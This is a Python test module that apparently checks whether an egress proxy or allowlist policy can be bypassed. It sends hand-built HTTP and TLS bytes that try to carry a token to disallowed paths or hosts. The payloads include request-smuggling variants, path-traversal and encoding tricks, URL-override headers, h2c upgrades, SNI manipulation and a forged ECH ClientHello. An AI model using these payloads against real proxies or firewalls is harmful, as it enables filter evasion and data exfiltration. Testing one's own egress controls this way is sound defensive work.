"""Runs inside and outside alike: what is said over a connection to an allowed host, by hand, byte by byte.

The policy: GET and POST of /open/** at the host, but for /open/closed/*; no other host, no other path. The token stands where it must not
arrive: in a path that is closed, in a request hidden behind another, in a header, in an extension.
"""

import contextlib
import socket
import ssl
import struct

from driver import attack

SECONDS = 2
HEAD = "Host: {host}\r\n"


def dial(facts, port, host="echo"):
    sock = socket.create_connection((facts[host], port), 5)
    sock.settimeout(SECONDS)
    return sock


def answers(sock):
    """The statuses of what comes back."""
    data = b""
    with contextlib.suppress(TimeoutError, ConnectionResetError):
        while part := sock.recv(65536):
            data += part
    found = [line.split(b" ")[1].decode() for line in data.split(b"\r\n") if line.startswith(b"HTTP/1.") and line.count(b" ")]
    return "/".join(found) or "closed"


def say(facts, text, port=80, host="echo"):
    with dial(facts, port, host) as sock:
        sock.sendall(text)
        return answers(sock)


def raw(identifier, text, **more):
    """One attack that is its bytes. {t}: the token, {host}: the allowed host, {other}: another one."""

    @attack(identifier)
    def _(facts, token):
        given = text.replace("{host}", facts["echo"]).replace("{other}", facts["other"]).replace("{t}", token.decode())
        return say(facts, given.encode("latin-1"), **more)


def get(path, headers=""):
    return f"GET {path} HTTP/1.1\r\n{HEAD}Connection: close\r\n{headers}\r\n"


OPEN = f"GET /open/first HTTP/1.1\r\n{HEAD}\r\n"
POST = f"POST /open/post HTTP/1.1\r\n{HEAD}"

# Plain HTTP, absolute form, explicit proxy
raw("plain-http", get("/{t}"))
raw("absolute-form", "GET http://{other}/open/{t} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n")
raw("explicit-proxy", "CONNECT {other}:443 HTTP/1.1\r\nHost: {other}:443\r\n\r\n{t}")
raw("open-relay", "GET http://127.0.0.1:631/{t} HTTP/1.1\r\nHost: 127.0.0.1:631\r\nConnection: close\r\n\r\n")

# Smuggling: the hidden request is the one with the token
HIDDEN = f"GET /{{t}} HTTP/1.1\r\n{HEAD}\r\n"
raw("cl-te", POST + "Content-Length: 200\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + HIDDEN)
raw("te-cl", POST + "Transfer-Encoding: chunked, identity\r\nContent-Length: 4\r\n\r\n5c\r\n" + HIDDEN + "\r\n0\r\n\r\n")
raw("cl-cl", POST + "Content-Length: 0\r\nContent-Length: 120\r\n\r\n" + HIDDEN)
raw("bare-line-ends", f"GET /open/x HTTP/1.1\nHost: {{host}}\nX: y\n\nGET /{{t}} HTTP/1.1\n{HEAD}\r\n")
raw("obs-fold", f"GET /open/x HTTP/1.1\r\n{HEAD}X-Long: a\r\n Transfer-Encoding: chunked {{t}}\r\n\r\n")
raw("chunk-extensions", POST + "Connection: close\r\nTransfer-Encoding: chunked\r\n\r\n1;name={t}\r\nx\r\n0\r\n\r\n")
raw("trailers", POST + "Connection: close\r\nTransfer-Encoding: chunked\r\nTrailer: X-Late\r\n\r\n1\r\nx\r\n0\r\nX-Late: {t}\r\n\r\n")
raw("h2c-upgrade", get("/open/x", "Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: {t}\r\n"))
raw("h2c-prior-knowledge", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00{t}")
raw("pipelining", OPEN + get("/{t}"))


@attack("keep-alive")
def _(facts, token):
    """An allowed request, its answer, and on the same connection one that is not."""
    with dial(facts, 80) as sock:
        sock.sendall(OPEN.replace("{host}", facts["echo"]).encode())
        sock.recv(65536)
        sock.sendall(get("/" + token.decode()).replace("{host}", facts["echo"]).encode())
        return answers(sock)


# Paths
for identifier, path in {
    "encoded-dots": "/open/%2e%2e/{t}",
    "dots-semicolon": "/open/..;/{t}",
    "double-slash": "//{t}",
    "single-dot": "/open/./closed/{t}",
    "encoded-slash": "/open/..%2f{t}",
    "encoded-backslash": "/open/..%5c{t}",
    "path-backslash": "/open/..\\{t}",
    "double-encoding": "/open/%252e%252e/{t}",
    "overlong": "/open/%c0%ae%c0%ae/{t}",
    "path-nul": "/open/closed/{t}%00.png",
    "path-case": "/open/CLOSED/{t}",
    "matrix-parameters": "/open;x=/../{t}",
    "path-trailing": "/open/" + "x" * 5000 + "/../../{t}",
}.items():
    raw(identifier, get(path))

# Methods and headers that change what is asked
raw("method-case", f"get /open/{{t}} HTTP/1.1\r\n{HEAD}Connection: close\r\n\r\n")
raw("unknown-verbs", f"BREW /open/{{t}} HTTP/1.1\r\n{HEAD}Connection: close\r\n\r\n")
raw("trace", f"TRACE /open/{{t}} HTTP/1.1\r\n{HEAD}Connection: close\r\n\r\n")
raw("connect-inside", "CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n{t}")
raw("method-override", get("/open/{t}", "X-HTTP-Method-Override: DELETE\r\n"))
raw("original-url", get("/open/x", "X-Original-URL: /{t}\r\n"))
raw("rewrite-url", get("/open/x", "X-Rewrite-URL: /{t}\r\n"))
raw("forwarded-host", get("/open/{t}", "X-Forwarded-Host: {other}\r\n"))
raw("userinfo", "GET http://{host}@{other}/open/{t} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n")
raw("port-in-host", "GET /open/{t} HTTP/1.1\r\nHost: {host}:8443\r\nConnection: close\r\n\r\n")
raw("host-crlf", "GET /open/x HTTP/1.1\r\nHost: {host}\r\n\tX: {t}\r\nConnection: close\r\n\r\n")
raw("host-of-another", "GET /open/{t} HTTP/1.1\r\nHost: {other}\r\nConnection: close\r\n\r\n")

# What is no HTTP
raw("plaintext-on-443", get("/{t}"), port=443)
raw("ssh-on-443", "SSH-2.0-{t}\r\n", port=443)
raw("ssh-on-passthrough", "SSH-2.0-{t}\r\n", port=443, host="passthrough")


# TLS


def handshake(facts, token, name, port=443, host="echo", reshape=lambda hello: hello, alpn=()):
    """A TLS connection with `name` as its SNI (None: none), whose first flight is reshaped; then the one request."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    if alpn:
        context.set_alpn_protocols(alpn)
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(incoming, outgoing, server_hostname=name)
    text = get("/open/" + token.decode()).replace("{host}", facts[host]).encode()
    with dial(facts, port, host) as sock:
        first = True
        steps = [tls.do_handshake, lambda: tls.write(text), lambda: tls.read(65536)]
        while steps:
            try:
                said = steps[0]()
                del steps[0]
            except ssl.SSLWantReadError:
                said = None
            flight = outgoing.read()
            if flight:
                sock.sendall(reshape(flight) if first else flight)
                first = False
            if said is None and steps:
                data = sock.recv(65536)
                if not data:
                    return "closed"
                incoming.write(data)
        return said.split(b" ")[1].decode()


def tls(identifier, **more):
    @attack(identifier)
    def _(facts, token):
        given = {name: facts.get(value, value) if isinstance(value, str) else value for name, value in more.items() if name != "host"}
        try:
            return handshake(facts, token, host=more.get("host", "echo"), **given)
        except ssl.SSLError as error:
            return error.reason or "SSLError"


def in_pieces(hello):
    """The same handshake message over records of forty bytes."""
    out, body = b"", b""
    while hello:
        kind, version, length = struct.unpack("!BHH", hello[:5])
        body += hello[5 : 5 + length]
        hello = hello[5 + length :]
    for start in range(0, len(body), 40):
        part = body[start : start + 40]
        out += struct.pack("!BHH", kind, version, len(part)) + part
    return out


tls("sni-of-another", name="other")
tls("no-sni", name=None)
tls("no-sni-passthrough", name=None, host="passthrough")
tls("ip-as-sni", name="192.0.2.7")
tls("fragmented-hello", name="other", reshape=in_pieces)
tls("fragmented-hello-passthrough", name="other", host="passthrough", reshape=in_pieces)
tls("huge-hello", name="other", alpn=["x" * 250 for _ in range(60)])
tls("odd-port", name="echo", port=8443)


def hello_with_ech(name, token):
    """A ClientHello for `name` with an encrypted_client_hello extension whose payload is the token."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    with contextlib.suppress(ssl.SSLWantReadError):
        ssl.create_default_context().wrap_bio(incoming, outgoing, server_hostname=name).do_handshake()
    body = bytearray(outgoing.read()[9:])
    at = 34 + 1 + body[34]
    at += 2 + struct.unpack_from("!H", body, at)[0]
    at += 1 + body[at]
    inner = b"\x00\x00\x01\x00\x01\x07" + struct.pack("!H", 0) + struct.pack("!H", len(token)) + token
    struct.pack_into("!H", body, at, struct.unpack_from("!H", body, at)[0] + 4 + len(inner))
    body += struct.pack("!HH", 0xFE0D, len(inner)) + inner
    message = b"\x01" + len(body).to_bytes(3, "big") + bytes(body)
    return struct.pack("!BHH", 22, 0x0301, len(message)) + message


@attack("ech")
def _(facts, token):
    """An encrypted inner name, which carries the token, below an outer name that is not the allowed one."""
    return say(facts, hello_with_ech(facts["other"], token), 443, "passthrough")
